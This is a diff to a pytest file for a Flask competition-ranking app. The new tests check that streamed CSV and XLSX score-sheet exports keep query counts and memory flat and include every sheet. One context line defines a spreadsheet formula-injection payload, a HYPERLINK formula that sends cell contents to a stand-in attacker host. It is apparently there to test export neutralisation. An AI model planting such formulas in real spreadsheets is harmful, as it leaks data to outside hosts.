@@ -2,6 +2,8 @@
 
 import csv
 import io
+import tempfile
+import tracemalloc
 
 import pytest
 from flask_babel import force_locale, gettext
@@ -16,6 +18,7 @@ from app.ranking import deliberation
 from app.ranking.exports import FONTS_DIR, ReportFetcher, ReportFileRefused, neutralise
 from app.ranking.prepared import ranking_stamp
 from app.ranking.scores import load_scores
+from tests.conftest import counting_queries
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 EXPORTS = ("ranking.csv", "ranking.xlsx", "sheets.csv", "sheets.xlsx", "jury-report.pdf")
@@ -415,3 +418,86 @@ def test_prepare_an_unknown_kind_or_method_changes_nothing(client, auth, small, 
     assert "This file cannot be prepared" in unknown_kind.get_data(as_text=True)
     assert unknown_method.status_code == 302
     assert db.session.scalar(select(func.count(PreparedFile.id))) == 0
+
+
+# --- Streamed: statements and memory do not grow with the number of sheets ----------------------------------
+
+STREAMED = ("sheets_csv", "sheets_xlsx", "ranking_csv", "ranking_xlsx")
+
+
+def _scored_edition(make, db, entries: int, jurors: int):
+    """An edition in deliberation where every juror scored every entry, with a comment on each sheet."""
+    edition = make.edition(phase="deliberation")
+    panel = [make.juror(name=f"Juror {n}") for n in range(jurors)]
+    for juror in panel:
+        make.jury_member(edition, juror)
+    for n in range(entries):
+        application = make.application(edition_=edition, status="eligible")
+        for k, juror in enumerate(panel):
+            scores = [(n + k) % 11, (n * k) % 11, 5]
+            make.score_sheet(make.assignment(application, juror), scores, overall_comment=f"Sheet {n}-{k}")
+    db.session.commit()
+    return edition.id
+
+
+def _make_file(app, kind: str, edition_id: int) -> None:
+    from app.ranking import prepared
+
+    with app.test_request_context("/"), tempfile.TemporaryFile() as out:
+        getattr(prepared, kind)(edition_id, {"language": "en"}, out)
+
+
+@pytest.fixture
+def two_sizes(make, db):
+    """Editions of 50 sheets (5 entries x 10 jurors) and 500 sheets (50 x 10)."""
+    return _scored_edition(make, db, 5, 10), _scored_edition(make, db, 50, 10)
+
+
+@pytest.mark.parametrize("kind", STREAMED)
+def test_export_statements_do_not_grow_with_the_sheets(app, db, two_sizes, kind):
+    counts = []
+    for edition_id in two_sizes:
+        db.session.expire_all()
+        with counting_queries(db) as statements:
+            _make_file(app, kind, edition_id)
+        counts.append(len(statements))
+
+    assert counts[0] == counts[1]
+
+
+@pytest.mark.parametrize("kind", ["sheets_csv", "sheets_xlsx"])
+def test_sheets_export_memory_does_not_grow_with_the_sheets(app, db, two_sizes, kind, monkeypatch):
+    # Rows are fetched SHEETS_CHUNK at a time: a chunk smaller than both editions' rows (150 and 1,500,
+    # one per criterion score) makes the peak that of a chunk at both sizes.
+    monkeypatch.setattr("app.ranking.scores.SHEETS_CHUNK", 40)
+    small, large = two_sizes
+    _make_file(app, kind, small)  # once first: imports, compiled statements and caches are not the file's
+    peaks = []
+    for edition_id in (small, large):
+        db.session.expire_all()
+        tracemalloc.start()
+        try:
+            _make_file(app, kind, edition_id)
+            peaks.append(tracemalloc.get_traced_memory()[1])
+        finally:
+            tracemalloc.stop()
+
+    # Ten times the sheets: the peak stays within a quarter (and 64 KiB) of the small edition's.
+    assert peaks[1] <= peaks[0] * 1.25 + 64 * 1024, peaks
+
+
+def test_sheets_csv_streams_every_sheet_of_a_larger_edition(app, db, make):
+    edition_id = _scored_edition(make, db, 7, 3)
+
+    with app.test_request_context("/"), tempfile.TemporaryFile() as out:
+        from app.ranking import prepared
+
+        prepared.sheets_csv(edition_id, {"language": "en"}, out)
+        out.seek(0)
+        rows = list(csv.reader(io.StringIO(out.read().decode("utf-8-sig"))))
+
+    assert len(rows) == 1 + 7 * 3
+    assert sorted(row[-1] for row in rows[1:]) == sorted(f"Sheet {n}-{k}" for n in range(7) for k in range(3))
+    # entry 2, juror 1: scores 3, 2, 5 (weights 1): total 3.333
+    sheet = next(row for row in rows if row[-1] == "Sheet 2-1")
+    assert sheet[8:15] == ["3.333", "3.00", "", "2.00", "", "5.00", ""]
